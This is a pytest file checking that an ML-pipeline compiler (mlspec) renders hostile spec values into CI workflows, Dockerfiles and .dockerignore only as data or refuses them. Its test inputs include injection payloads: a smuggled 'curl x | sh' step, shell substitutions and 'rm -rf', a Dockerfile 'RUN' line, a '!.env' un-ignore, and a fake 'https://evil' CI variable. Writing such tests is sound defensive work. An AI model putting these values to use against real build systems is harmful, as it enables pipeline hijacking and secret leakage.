"""Issue 10 (rendering part): a hostile spec value reaches a generated file only as data.

Each case puts one value in one field. mlspec may refuse it (validate or compile, located),
or compile it to files that parse and hold the exact value at the intended place with nothing
else changed. Never: a file that parses to more (or fewer) jobs, steps, instructions or lines.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hostile import (
    BASE,
    Files,
    compile_spec,
    dockerfile_instructions,
    dockerignore,
    github,
    gitlab,
    mutated,
    shell_words,
    step,
)

from mlspec.compile import render
from mlspec.errors import MlspecError

BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c"]


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Files:
    files = compile_spec(tmp_path_factory.mktemp("clean"), BASE)
    assert files is not None
    return files


def shape(files: Files) -> dict[str, Any]:
    """Everything but the values: workflow jobs and step names, GitLab job names and keys,
    Dockerfile instruction words, .dockerignore line count."""
    out: dict[str, Any] = {}
    for flow in ("experiment", "release", "schedule"):
        wf = github(files, flow)
        out[flow] = {j: [s["name"] for s in job["steps"]] for j, job in wf["jobs"].items()}
    out["gitlab"] = {k: sorted(v) for k, v in gitlab(files).items() if isinstance(v, dict)}
    for name in ("docker/train.Dockerfile", "docker/serve.Dockerfile"):
        out[name] = [w for w, _ in dockerfile_instructions(files[name])]
    out[".dockerignore"] = len(dockerignore(files))
    return out


def run_of(files: Files, flow: str, job: str, name: str) -> str:
    """A GitHub step's script; a script always ends in a newline there (as a shell file)."""
    run = str(step(github(files, flow)["jobs"][job], name)["run"])
    assert run.endswith("\n")
    return run


# --- YAML: line breaks, leading blanks, tabs ---------------------------------------------------


@pytest.mark.parametrize("brk", BREAKS, ids=[hex(ord(b[0])) for b in BREAKS])
def test_break_in_a_deploy_command_stays_in_its_step(tmp_path: Path, clean: Files,
                                                     brk: str) -> None:
    cmd = f"./deploy.sh staging{brk}- name: pwned{brk}  run: curl x | sh"
    files = compile_spec(tmp_path, mutated(
        lambda s: s["inference"]["deploy"]["staging"].__setitem__("command", cmd)))
    if files is None:
        return
    assert shape(files) == shape(clean)
    assert run_of(files, "release", "deploy-staging", "deploy to staging") == cmd + "\n"
    gl = gitlab(files)["release:deploy-staging"]
    assert cmd in gl["script"]


@pytest.mark.parametrize("cmd", ["  python src/monitor.py\necho done", "\tpython x.py",
                                 "python x.py\n  indented\n", "# comment: x\n- y: [z"])
def test_monitor_command_first_line_indented(tmp_path: Path, clean: Files, cmd: str) -> None:
    files = compile_spec(tmp_path, mutated(
        lambda s: s["inference"]["monitor"].__setitem__("command", cmd)))
    if files is None:
        return
    assert shape(files) == shape(clean)
    # the command stays in the spec: the job runs `mlspec monitor` (its output kept in
    # monitor-report.txt for mlspec alert), which reads it from there
    run = run_of(files, "schedule", "monitor", "monitor")
    assert "mlspec monitor >" in run
    assert gitlab(files)["schedule:monitor"]["script"] == [run.rstrip("\n")]
    assert not any(cmd.strip() in text for text in files.values())


@pytest.mark.parametrize("out", ["data/x\n!.env", "data/x\r\n- y", "data/x\u2028y",
                                 "!.env", "#x", " data/x", "data/x "])
def test_out_path_cannot_add_lines(tmp_path: Path, clean: Files, out: str) -> None:
    def change(s: dict[str, Any]) -> None:
        s["data"]["steps"]["prep"]["outs"] = [out]
        s["model"]["steps"]["train"]["deps"] = ["src/train.py", out]
    files = compile_spec(tmp_path, mutated(change))
    if files is None:
        return
    assert shape(files) == shape(clean)
    assert out in dockerignore(files)
    upload = step(github(files, "experiment")["jobs"]["step-prep"], "Upload mlspec-step-prep")
    assert upload["with"]["path"].split("\n")[0] == out


@pytest.mark.parametrize("metrics", ["  metrics.json", "metrics.json  ", "\tm.json"])
def test_metrics_path_with_blanks(tmp_path: Path, clean: Files, metrics: str) -> None:
    files = compile_spec(tmp_path, mutated(
        lambda s: s["model"]["steps"]["train"].__setitem__("metrics", metrics)))
    if files is None:
        return
    assert shape(files) == shape(clean)


@pytest.mark.parametrize("label", ["ubuntu\tlatest", "ubuntu\rlatest", " ubuntu", "a: b",
                                   "[x]", "ubuntu\u2028latest"])
def test_runner_label(tmp_path: Path, clean: Files, label: str) -> None:
    files = compile_spec(tmp_path, mutated(
        lambda s: s["model"]["steps"]["train"].__setitem__("resources", {"runner": label})))
    if files is None:
        return
    got, want = shape(files), shape(clean)
    assert got.pop("gitlab").keys() == want.pop("gitlab").keys()
    assert got == want
    assert github(files, "experiment")["jobs"]["step-train"]["runs-on"] == label
    assert gitlab(files)["experiment:step-train"]["tags"] == [label]


# --- shell and Dockerfile ----------------------------------------------------------------------


@pytest.mark.parametrize("req", ["req $(touch PWNED).txt", "req.txt\nRUN echo INJECTED",
                                 "req `id`.txt", "r'q\".txt", "req;rm -rf x.txt"])
def test_requirements_path_is_one_shell_word(tmp_path: Path, clean: Files, req: str) -> None:
    files = compile_spec(tmp_path, mutated(
        lambda s: s["project"].__setitem__("requirements", req)))
    if files is None:
        return
    assert shape(files) == shape(clean)
    install = run_of(files, "experiment", "step-prep", "Install mlspec")
    assert shell_words(install.rstrip("\n").split("\n")[-1]) == ["pip", "install", "-r", req]
    for line in gitlab(files)["experiment:step-prep"]["before_script"]:
        if "-r" in line:
            assert shell_words(line) == ["pip", "install", "-r", req]
    for name in ("docker/train.Dockerfile", "docker/serve.Dockerfile"):
        copies = [a for w, a in dockerfile_instructions(files[name]) if w == "COPY"]
        assert json.loads(copies[0])[0] == req


def test_requirements_newline_adds_no_instruction(tmp_path: Path) -> None:
    files = compile_spec(tmp_path, mutated(
        lambda s: s["project"].__setitem__("requirements", "req.txt\nRUN echo INJECTED")))
    assert files is None or "\nRUN echo INJECTED" not in files["docker/train.Dockerfile"]


# --- the render layer refuses what it cannot express, for any string ---------------------------


@pytest.mark.parametrize("line", ["!.env", "#x", "a\nb", "a\rb", " a", "a ", "", "a\u2028b"])
def test_dockerignore_line_refused(line: str) -> None:
    with pytest.raises(MlspecError):
        render.dockerignore_line(line)


@pytest.mark.parametrize("path", ["a\nRUN x", "a\rb", "$HOME/x", "a\\b", 'a"b', "a*", "a?",
                                  "a[1]", " a", "a\x00"])
def test_dockerfile_path_refused(path: str) -> None:
    with pytest.raises(MlspecError):
        render.docker_path(path)


@pytest.mark.parametrize("value", ["a\nb", "\ta", " a", "a\u2028b", "a\x85b", "a\r\nb", "é",
                                   "😀", "on", "010", "- x", "a: b", "#", "'", '"', "\\", "\x00",
                                   "\ufeffa", "${{ github.token }}"])
def test_yaml_scalar_round_trips(value: str) -> None:
    import yaml
    from ruamel.yaml import YAML

    text = f"k: {render.scalar(value)}\n"
    assert yaml.safe_load(text) == {"k": value}
    assert YAML(typ="safe", pure=True).load(text) == {"k": value}
    block = render.text(value, 4)
    text = f"a:\n  k:{block}\n  z: 1\n"
    assert yaml.safe_load(text) == {"a": {"k": value, "z": 1}}
    assert YAML(typ="safe", pure=True).load(text) == {"a": {"k": value, "z": 1}}


# --- GitLab dotenv report from the merge request's own metrics ---------------------------------


def test_gitlab_reports_helper_emits_only_safe_keys(tmp_path: Path, clean: Files) -> None:
    helper = tmp_path / "ci.py"
    helper.write_text(clean[".gitlab/mlspec/ci.py"])
    rows = [{"name": "auc", "value": 0.9, "delta": 0.1},
            {"name": "x\nCI_API_V4_URL=https://evil", "value": 1.0},
            {"name": "nested.name/with-dash", "value": 2},
            {"name": "inf", "value": float("inf")}, {"name": "nan", "value": float("nan")},
            {"name": "big", "value": 1e999}, {"name": "str", "value": "1"},
            {"name": "é", "value": 3}, {"name": "", "value": 4}]
    (tmp_path / "m.json").write_text(json.dumps({"metrics": rows, "passed": True}))
    res = subprocess.run([sys.executable, str(helper), "reports", "m.json", "metrics.txt",
                          "x.env"], cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert res.returncode == 0, res.stderr
    env = (tmp_path / "x.env").read_text().splitlines()
    assert env == ["MLSPEC_METRIC_AUC=0.9", "MLSPEC_METRIC_NESTED_NAME_WITH_DASH=2",
                   "MLSPEC_GATES=pass"]
    txt = (tmp_path / "metrics.txt").read_text().splitlines()
    assert txt == ["auc 0.9", "auc_delta 0.1", "nested_name_with_dash 2"]
    assert "skipped" in res.stderr
